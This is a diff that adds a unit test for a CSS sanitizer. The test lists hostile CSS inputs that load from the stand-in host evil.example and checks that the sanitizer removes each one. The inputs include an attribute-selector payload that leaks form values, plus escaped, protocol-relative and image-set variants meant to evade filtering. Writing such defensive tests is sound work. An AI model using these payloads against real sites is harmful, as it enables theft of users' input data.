@@ -23,6 +23,26 @@ describe('sanitizeCss', () => {
     expect(sanitizeCss(css)).toBe(out);
   });
 
+  it('keeps addresses of this site and inline data, and drops every statement that would load from another host', () => {
+    const local = '.a{background:url(/style-assets/bg.png)}.b{background:url("img/x.png")}.c{background:url(data:image/png;base64,AAAA)}.d{background-image:image-set("/style-assets/a.png" 1x)}';
+    expect(sanitizeCss(local)).toBe(local);
+    const hostile = [
+      'input[value^="a"]{background:url(https://evil.example/a)}',
+      'input[value^="a"]{background:url("//evil.example/a")}',
+      "a{background:url('HTTPS://evil.example/a')}",
+      'a{background:url(https:evil.example/a)}',
+      // Two escaped backslashes: the URL parser reads them as two slashes.
+      'a{background:url(\\\\\\\\evil.example/a)}',
+      'a{background:url(/\\\\evil.example/a)}',
+      'a{background:url(ht\\74ps://evil.example/a)}',
+      'a{background-image:image-set("https://evil.example/a" 1x)}',
+      'a{background-image:-webkit-image-set(\'//evil.example/a\' 1x)}',
+      '@font-face{font-family:x;src:url(https://evil.example/f.woff)}',
+      'a{background:url(https://evil.example/a',
+    ];
+    for (const css of hostile) expect(sanitizeCss(css), css).not.toContain('evil');
+  });
+
   it('keeps @import of this site only', () => {
     expect(sanitizeCss('@import url(/style-assets/base.css);')).toBe('@import url(/style-assets/base.css);');
     expect(sanitizeCss("@import '/style-assets/base.css';")).toBe("@import '/style-assets/base.css';");
